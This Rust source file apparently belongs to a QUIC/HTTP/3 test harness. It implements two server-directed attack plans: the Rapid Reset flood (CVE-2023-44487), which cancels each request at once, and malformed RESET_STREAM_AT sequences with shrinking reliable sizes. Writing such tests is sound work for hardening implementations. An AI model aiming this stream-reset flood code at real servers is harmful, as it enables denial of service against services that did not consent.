//! Requests that are reset.

use courser_wire::{Frame, ResetStream, ResetStreamAt, StopSending};

use crate::attack::{Expect, Plan, Victim};
use crate::encode;
use crate::http::{self, Method, REQUEST_CANCELLED};

use super::Crowd;

pub(super) const RAPID_RESET: Plan = Plan {
    name: "rapid-reset",
    labels: &["A71"],
    summary: "complete requests, each followed by RESET_STREAM and STOP_SENDING",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(rapid_reset()),
};

/// Cancels each request immediately (CVE-2023-44487).
fn rapid_reset() -> Crowd {
    Crowd::of_clients(2, |connection, progress, _| {
        let request = http::request(Method::Get, "/");
        for id in progress.requests(connection, REQUESTS) {
            let reset = ResetStream {
                id,
                error_code: REQUEST_CANCELLED,
                final_size: request.len() as u64,
            };
            let stop = StopSending {
                id,
                error_code: REQUEST_CANCELLED,
            };
            let mut frames = http::stream(id, 0, &request, false);
            frames.extend(encode(&Frame::ResetStream(reset)));
            frames.extend(encode(&Frame::StopSending(stop)));
            connection.push_bytes(frames);
        }
    })
}

pub(super) const RESET_AT: Plan = Plan {
    name: "reset-at",
    labels: &["A175"],
    summary: "RESET_STREAM_AT above and below the bytes that arrive, with sizes that shrink",
    victim: Victim::Server,
    expect: Expect::ANY,
    make: || Box::new(reset_at()),
};

/// Resets requests with reliable sizes beyond the bytes that are sent.
fn reset_at() -> Crowd {
    // Bytes after the request that are never sent.
    const UNSENT: u64 = 1000;
    Crowd::of_clients(2, |connection, progress, _| {
        let request = http::request(Method::Get, "/");
        let len = request.len() as u64;
        for id in progress.requests(connection, REQUESTS) {
            let mut frames = Vec::new();
            // Larger sizes that arrive later are ignored. The last one is below the bytes that arrived.
            for reliable_size in [len + UNSENT, len + 1, len + UNSENT - 1, 1] {
                frames.extend(encode(&Frame::ResetStreamAt(ResetStreamAt {
                    id,
                    error_code: REQUEST_CANCELLED,
                    final_size: len + UNSENT,
                    reliable_size,
                })));
                if reliable_size == len + 1 {
                    frames.extend(http::stream(id, 0, &request, false));
                }
                if reliable_size != 1 && !id.index().is_multiple_of(2) {
                    // Every second stream waits for its bytes.
                    break;
                }
            }
            connection.push_bytes(frames);
        }
    })
}

/// Requests of one connection in one turn.
const REQUESTS: u64 = 32;
